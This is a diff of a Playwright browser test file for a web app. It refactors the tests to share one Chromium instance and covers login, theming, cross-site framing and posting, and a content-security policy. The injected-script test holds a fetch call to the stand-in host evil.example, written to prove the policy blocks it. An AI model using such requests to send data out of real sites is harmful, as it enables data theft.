@@ -8,6 +8,7 @@ from datetime import UTC, datetime
 from pathlib import Path
 
 import pytest
+import pytest_asyncio
 from pydantic import SecretStr
 from starlette.applications import Starlette
 
@@ -25,22 +26,31 @@ FLAGS = [
 ]  # fmt: skip
 if not CHROMIUM.exists():
     pytest.skip("no chromium is installed", allow_module_level=True)
-from playwright.async_api import BrowserContext, Page, async_playwright  # noqa: E402
+from playwright.async_api import Browser, BrowserContext, Page, async_playwright  # noqa: E402
+
+# One browser for all tests of this file, and so one event loop.
+pytestmark = pytest.mark.asyncio(loop_scope="module")
+
+
+@pytest_asyncio.fixture(scope="module", loop_scope="module")
+async def chromium() -> AsyncIterator[Browser]:
+    async with async_playwright() as playwright:
+        browser = await playwright.chromium.launch(executable_path=str(CHROMIUM), args=FLAGS)
+        yield browser
+        await browser.close()
 
 
 @asynccontextmanager
-async def browsing(scheme: str = "light", language: str = "fr-FR") -> AsyncIterator[tuple[BrowserContext, list[str]]]:
-    """A browser, and what its pages complain of."""
+async def browsing(
+    chromium: Browser, scheme: str = "light", language: str = "fr-FR"
+) -> AsyncIterator[tuple[BrowserContext, list[str]]]:
+    """A person's browser, and what its pages complain of."""
     said: list[str] = []
-    async with async_playwright() as playwright:
-        chromium = await playwright.chromium.launch(executable_path=str(CHROMIUM), args=FLAGS)
-        context = await chromium.new_context(color_scheme=scheme, locale=language)  # type: ignore[arg-type]
-        context.on(
-            "console", lambda message: said.append(message.text) if message.type in ("error", "warning") else None
-        )
-        context.on("weberror", lambda error: said.append(str(error.error)))
-        yield context, said
-        await chromium.close()
+    context = await chromium.new_context(color_scheme=scheme, locale=language)  # type: ignore[arg-type]
+    context.on("console", lambda message: said.append(message.text) if message.type in ("error", "warning") else None)
+    context.on("weberror", lambda error: said.append(str(error.error)))
+    yield context, said
+    await context.close()
 
 
 async def log_in(page: Page, url: str, login: str = "c1", password: str = PASSWORD) -> None:
@@ -54,9 +64,9 @@ async def log_in(page: Page, url: str, login: str = "c1", password: str = PASSWO
         await page.keyboard.press("Enter")
 
 
-async def test_a_login_by_keyboard_and_the_account(app: Starlette) -> None:
+async def test_a_login_by_keyboard_and_the_account(chromium: Browser, app: Starlette) -> None:
     people(app, Role.CODER)
-    async with served(app, Web(), Pages()) as url, browsing() as (context, said):
+    async with served(app, Web(), Pages()) as url, browsing(chromium) as (context, said):
         page = await context.new_page()
         await log_in(page, url, password="wrong")
         assert "inexact" in await page.inner_text("[role=alert]")
@@ -87,8 +97,8 @@ async def test_a_login_by_keyboard_and_the_account(app: Starlette) -> None:
         assert said == []
 
 
-async def test_the_theme_is_kept(app: Starlette) -> None:
-    async with served(app, Web(), Pages()) as url, browsing() as (context, said):
+async def test_the_theme_is_kept(chromium: Browser, app: Starlette) -> None:
+    async with served(app, Web(), Pages()) as url, browsing(chromium) as (context, said):
         page = await context.new_page()
         await page.goto(f"{url}/login")
         paper = "getComputedStyle(document.documentElement).backgroundColor"
@@ -102,9 +112,9 @@ async def test_the_theme_is_kept(app: Starlette) -> None:
         assert said == []
 
 
-async def test_injected_script_does_not_run(app: Starlette) -> None:
+async def test_injected_script_does_not_run(chromium: Browser, app: Starlette) -> None:
     """Even where a page would let markup through, the policy stops it."""
-    async with served(app, Web(), Pages()) as url, browsing() as (context, said):
+    async with served(app, Web(), Pages()) as url, browsing(chromium) as (context, said):
         page = await context.new_page()
         await page.goto(f"{url}/login")
         await page.evaluate(
@@ -121,9 +131,11 @@ async def test_injected_script_does_not_run(app: Starlette) -> None:
         assert await page.evaluate("fetch('https://evil.example/').then(() => 'sent', () => 'stopped')") == "stopped"
 
 
-async def test_another_site_can_neither_frame_nor_post(app: Starlette, make: Callable[..., Starlette]) -> None:
+async def test_another_site_can_neither_frame_nor_post(
+    chromium: Browser, app: Starlette, make: Callable[..., Starlette]
+) -> None:
     people(app, Role.CODER)
-    async with served(app, Web(), Pages()) as url, browsing() as (context, _):
+    async with served(app, Web(), Pages()) as url, browsing(chromium) as (context, _):
         page = await context.new_page()
         await log_in(page, url)
         evil = await context.new_page()
@@ -144,10 +156,12 @@ async def test_another_site_can_neither_frame_nor_post(app: Starlette, make: Cal
     assert not [entry for entry in front_of_app(app).access.entries() if entry.act == "DECIDED"]
 
 
-async def test_a_login_at_a_real_provider(make: Callable[..., Starlette], provider: str, clock: Clock) -> None:
+async def test_a_login_at_a_real_provider(
+    chromium: Browser, make: Callable[..., Starlette], provider: str, clock: Clock
+) -> None:
     clock.now = datetime.now(UTC)  # the provider's clock goes
     web = Web(oidc=Oidc(issuer=provider, client_id="desk", client_secret=SecretStr("s")))
-    async with served(make(web), web, Pages()) as url, browsing() as (context, _):
+    async with served(make(web), web, Pages()) as url, browsing(chromium) as (context, _):
         page = await context.new_page()
         await page.goto(f"{url}/?word=b")
         await page.click("text=établissement")
@@ -158,9 +172,9 @@ async def test_a_login_at_a_real_provider(make: Callable[..., Starlette], provid
         assert "Anne Dupont" in await page.inner_text("header")
 
 
-async def test_small_screens_do_not_scroll_sideways(app: Starlette) -> None:
+async def test_small_screens_do_not_scroll_sideways(chromium: Browser, app: Starlette) -> None:
     people(app, Role.CODER, Role.ADMIN)
-    async with served(app, Web(), Pages()) as url, browsing() as (context, _):
+    async with served(app, Web(), Pages()) as url, browsing(chromium) as (context, _):
         page = await context.new_page()
         await page.set_viewport_size({"width": 320, "height": 640})
         await log_in(page, url)
